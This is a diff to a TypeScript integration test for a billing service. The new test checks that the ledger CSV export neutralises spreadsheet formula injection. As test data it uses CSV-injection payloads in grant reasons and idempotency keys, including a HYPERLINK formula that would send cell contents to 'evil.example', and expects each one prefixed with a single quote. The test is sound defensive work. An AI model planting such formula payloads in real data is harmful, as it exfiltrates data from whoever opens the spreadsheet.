@@ -2,24 +2,21 @@ import { databaseUrl } from '@svc/test-kit';
 import { redisKeys } from '@svc/contracts';
 import type { SettlementRecord } from '@svc/contracts';
 import { createBillingDatabase } from '../src/db/prisma.repository';
-import type { BillingDatabase, PrismaClient } from '../src/db/prisma.repository';
-import { LedgerRepository } from '../src/ledger/ledger.repository';
+import type { BillingDatabase } from '../src/db/prisma.repository';
 import { call, operatorHeaders, expectInvalidRequest } from './billing-harness';
-import { settlementRecord } from './ledger-fixtures';
+import { settlementRecord, TestLedgerAppend } from './ledger-fixtures';
 import { asKey, checkout, newAccount, spendableBecomes, startStripeHarness } from './stripe-harness';
 import type { StripeHarness } from './stripe-harness';
 
 let h: StripeHarness;
 let database: BillingDatabase;
-let prisma: PrismaClient;
-let ledger: LedgerRepository;
+let ledger: TestLedgerAppend;
 
 beforeAll(async () => {
   h = await startStripeHarness('finance', { timeoutMs: 300 });
   const name = (await h.db.query<{ n: string }>('SELECT current_database() AS n')).rows[0]?.n ?? '';
   database = createBillingDatabase(databaseUrl(name), () => undefined);
-  prisma = database.prisma;
-  ledger = new LedgerRepository(prisma, database.pool);
+  ledger = new TestLedgerAppend(database);
 }, 60_000);
 
 afterAll(async () => {
@@ -130,6 +127,35 @@ describe('after a mixed run: purchases, searches, refunds, timeouts, a dispute',
     const micros = rows.reduce((sum, r) => sum + Number((r[4] ?? '').replace('.', '')), 0);
     expect(micros).toBe(-30_000);
     expect(rows.at(-1)?.[5]).toBe('-0.030000');
+  });
+
+  it('exports text that a spreadsheet would run as a formula behind a single quote (reasons and idempotency keys), amounts as numbers', async () => {
+    const account = await newAccount(h);
+    const grant = async (amountUsd: number, reason: string, idempotencyKey: string): Promise<void> => {
+      const response = await call(`${h.billing.operatorUrl}/operator/accounts/${account}/grants`, {
+        method: 'POST', headers: operatorHeaders({ 'idempotency-key': idempotencyKey }), body: JSON.stringify({ amount_usd: amountUsd, reason }),
+      });
+      expect(response.status).toBe(201);
+    };
+    await grant(10, '=HYPERLINK("https://evil.example/?d="&A1,"open")', '+1');
+    await grant(2.5, '@SUM(A1:A9)', '-1+1');
+    await grant(1, '+cmd', '=1');
+    // A tab or a carriage return in front does not survive the grant route (its reason is trimmed):
+    // written by the ledger's own append, as any other writer of a reason would.
+    for (const reason of ['\t=1', '\r=1']) {
+      const outcome = await ledger.appendEntry({ accountId: account, kind: 'grant', amountMicros: 1, reason, idempotencyKey: null, requestId: null });
+      expect(outcome.kind).toBe('created');
+    }
+    const response = await fetch(`${h.billing.operatorUrl}/operator/ledger/export?account_id=${account}`, { headers: operatorHeaders() });
+    expect(response.status).toBe(200);
+    const records = (await response.text()).split('\r\n').slice(1, -1).map((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/));
+    expect(records.map((r) => [r[4], r[5], r[6], r[7]])).toEqual([
+      ['10.000000', '10.000000', '"\'=HYPERLINK(""https://evil.example/?d=""&A1,""open"")"', '"\'+1"'],
+      ['2.500000', '12.500000', '"\'@SUM(A1:A9)"', '"\'-1+1"'],
+      ['1.000000', '13.500000', '"\'+cmd"', '"\'=1"'],
+      ['0.000001', '13.500001', '"\'\t=1"', ''],
+      ['0.000001', '13.500002', '"\'\r=1"', ''],
+    ]);
   });
 
   it('rejects a bad export query as 400 invalid_request', async () => {
